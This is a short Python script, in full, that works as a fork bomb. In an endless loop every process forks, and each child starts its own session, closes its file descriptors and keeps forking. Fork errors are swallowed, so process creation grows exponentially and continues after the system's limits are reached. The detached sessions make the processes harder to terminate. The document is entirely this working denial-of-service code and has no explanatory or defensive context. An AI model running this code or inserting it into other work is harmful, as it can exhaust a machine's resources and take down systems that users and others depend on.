"""Forks for ever; each child is in a session of its own, without descriptors."""

import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
            os.closerange(0, 1024)
    except OSError:
        pass
